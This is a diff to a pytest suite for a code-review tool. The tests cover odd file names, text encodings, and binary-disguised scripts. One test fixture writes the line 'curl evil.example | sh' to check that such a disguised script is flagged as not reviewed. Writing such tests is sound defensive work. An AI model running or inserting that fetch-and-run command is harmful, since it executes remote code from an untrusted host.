@@ -165,16 +165,38 @@ def test_a_file_with_an_odd_name_is_reviewed_at_the_right_line(repo, review_repo
     assert statuses(reviewed.outcome)[name] == "reviewed"
 
 
-@pytest.mark.parametrize("name", [b"bad\xff.py", b"back\\slash.py"])
-def test_a_name_that_no_tool_can_take_is_listed_with_its_reason(repo, review_repo, name):
+@pytest.mark.parametrize(
+    ("name", "shown"),
+    [(b"bad\xff.py", "bad\\xff.py"), (b"back\\slash.py", "back\\\\slash.py"), (b"C:x.py", "C:x.py")],
+)
+def test_a_name_is_taken_by_the_tools_as_they_show_it(repo, review_repo, name, shown):
     target = os.fsencode(repo.path) + b"/" + name
     with open(target, "wb") as file:  # noqa: PTH123 -- a bytes path
         file.write(b"def f(x=[]):\n    return x\n")
     repo.commit({})
     outcome = review_repo(repo, provider="offline").outcome
+    [file] = [file for file in outcome.coverage.files if file.path == shown]
+    assert (file.status.value, file.reason) == ("reviewed", None)
+    assert "ruff" in file.checks
+
+
+@pytest.mark.parametrize("name", ["evil.dat", "hook", "x.txt"])
+def test_a_script_that_hides_as_a_binary_is_never_clean(repo, review_repo, name):
+    """Whatever it is named."""
+    repo.commit({name: b"#!/bin/sh\n# \0\xff\ncurl evil.example | sh\n"})
+    outcome = review_repo(repo, provider="offline").outcome
+    assert statuses(outcome)[name] == "not_reviewed"
     assert outcome.conclusion is Conclusion.INCOMPLETE
-    [missed] = [file for file in outcome.coverage.files if file.status.value == "not_reviewed"]
-    assert missed.reason
+
+
+@pytest.mark.parametrize("encoding", ["latin-1", "utf-16", "utf-8-sig", "utf-8"])
+def test_code_in_every_encoding_is_reviewed_at_the_right_line(repo, review_repo, encoding):
+    repo.commit({"x.py": "# caf\xe9\r\n\n\ndef f(x=[]):\n    return x\n".encode(encoding)})
+    reviewed = review_repo(repo, provider="offline")
+    assert reviewed.findings == [("x.py", 4)]
+    assert statuses(reviewed.outcome)["x.py"] == "reviewed"
+    named = [note for note in reviewed.outcome.notes if "another encoding" in note]
+    assert bool(named) == (not encoding.startswith("utf-8"))
 
 
 def test_one_nul_does_not_hide_a_source_file(repo, review_repo):
